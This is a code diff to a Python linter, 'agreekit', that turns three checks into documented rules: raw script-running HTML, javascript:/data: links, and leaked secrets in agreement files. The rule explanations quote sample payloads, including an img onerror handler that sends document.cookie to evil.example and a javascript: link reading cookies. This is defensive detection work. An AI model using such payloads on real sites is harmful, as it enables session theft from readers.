@@ -8,9 +8,10 @@ from collections.abc import Iterator
 from itertools import accumulate
 from typing import NamedTuple
 
+from agreekit.checks.context import CheckContext
+from agreekit.checks.family import Family
 from agreekit.checks.paths import walk_strings
-from agreekit.checks.prose import prose_texts
-from agreekit.finding import Finding, Location, finding
+from agreekit.finding import ERROR, Explanation, Finding, Location, Rule
 from agreekit.model.agreement import Agreement
 from agreekit.model.source import SourceMap
 
@@ -59,16 +60,45 @@ def _data_strings(agreement: Agreement) -> Iterator[tuple[SourceMap, tuple[str |
             yield section.source, path, text
 
 
-def no_script_html(agreement: Agreement) -> Iterator[Finding]:
+FAMILY = Family()
+
+
+AK501 = Rule(
+    "AK501",
+    "script-html",
+    ERROR,
+    summary="Raw HTML that can run script on the published site.",
+    hint="Remove the HTML; write Markdown.",
+    explanation=Explanation(
+        what=(
+            "Raw HTML in a section or data value that can run script on the published "
+            "site: `<script>`, `<iframe>`, `<object>`, `<embed>`, `<base>`, `<meta>` and "
+            "frames, and event-handler attributes such as `onclick=` or `onerror=`."
+        ),
+        why=(
+            "The site is published from contributors' text; script in it runs in every "
+            "reader's browser with the site's origin."
+        ),
+        example=(
+            '<img src="logo.png" onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">'
+        ),
+        fix="Remove the HTML and write Markdown.",
+        fixed="![Logo](logo.png)",
+    ),
+)
+
+
+@FAMILY.check(AK501)
+def no_script_html(agreement: Agreement, context: CheckContext) -> Iterator[Finding]:
     """AK501"""
-    for prose in prose_texts(agreement):
+    for prose in context.prose:
         if "<" not in prose.raw:
             continue
         for offset, message in _html_problems(prose.raw):
-            yield finding("AK501", prose.location(offset), message)
+            yield AK501.at(prose.location(offset), message)
     for source, path, text in _data_strings(agreement):
         for _, message in _html_problems(text):
-            yield finding("AK501", source.locate(*path), message)
+            yield AK501.at(source.locate(*path), message)
 
 
 def _link_problems(text: str) -> Iterator[tuple[int, str]]:
@@ -87,14 +117,38 @@ def _link_problems(text: str) -> Iterator[tuple[int, str]]:
             )
 
 
-def no_script_links(agreement: Agreement) -> Iterator[Finding]:
+AK502 = Rule(
+    "AK502",
+    "script-link",
+    ERROR,
+    summary="A javascript:, vbscript: or data: link.",
+    hint="Link to an https: address or a file in the repository.",
+    explanation=Explanation(
+        what=(
+            "A link with a `javascript:`, `vbscript:` or `data:` address, as a Markdown "
+            "link, a reference definition, an autolink or an HTML attribute, including "
+            "spellings split by spaces or entities."
+        ),
+        why=(
+            "Such a link runs script or shows content disguised as part of the agreement "
+            "when a reader clicks it."
+        ),
+        example="[Service portal](javascript:alert(document.cookie))",
+        fix="Link to an https address or a file in the repository.",
+        fixed="[Service portal](https://support.brightwater-it.example)",
+    ),
+)
+
+
+@FAMILY.check(AK502)
+def no_script_links(agreement: Agreement, context: CheckContext) -> Iterator[Finding]:
     """AK502"""
-    for prose in prose_texts(agreement):
+    for prose in context.prose:
         for offset, message in _link_problems(prose.raw):
-            yield finding("AK502", prose.location(offset), message)
+            yield AK502.at(prose.location(offset), message)
     for source, path, text in _data_strings(agreement):
         for _, message in _link_problems(text):
-            yield finding("AK502", source.locate(*path), message)
+            yield AK502.at(source.locate(*path), message)
 
 
 class SecretPattern(NamedTuple):
@@ -132,7 +186,31 @@ _SECRET_PATTERNS = tuple(
 )
 
 
-def no_secrets(agreement: Agreement) -> Iterator[Finding]:
+AK503 = Rule(
+    "AK503",
+    "secret",
+    ERROR,
+    summary="A secret-like string (private key, token, password) in an agreement file.",
+    hint="Remove it and rotate the secret: git history keeps it.",
+    explanation=Explanation(
+        what=(
+            "A string that looks like a secret in any file under agreement/ (sections, "
+            "agreement.yml, records): a private key block, GitHub, AWS, Slack, Stripe or "
+            "Google tokens, or a password, secret or API key assigned a value."
+        ),
+        why=(
+            "The agreement repository is read by many people and published; a secret in "
+            "it is leaked, and stays in git history after it is deleted."
+        ),
+        example="Portal admin password: Harbour2027!",
+        fix=("Remove the secret, rotate it at its issuer, and keep secrets in a password manager."),
+        fixed="Portal admin credentials are in the shared password manager.",
+    ),
+)
+
+
+@FAMILY.check(AK503)
+def no_secrets(agreement: Agreement, context: CheckContext) -> Iterator[Finding]:
     """AK503"""
     # All files in one text, each pattern run over it once: a scan per pattern, not per file.
     # Bytes, not str: every pattern is ASCII, and lower-casing and searching bytes is faster;
@@ -162,4 +240,4 @@ def no_secrets(agreement: Agreement) -> Iterator[Finding]:
             f"this looks like {SECRETS[index].what}; remove it from the file and rotate it "
             "(git history keeps it: treat it as leaked)"
         )
-        yield finding("AK503", Location(files[number], line, column), message)
+        yield AK503.at(Location(files[number], line, column), message)
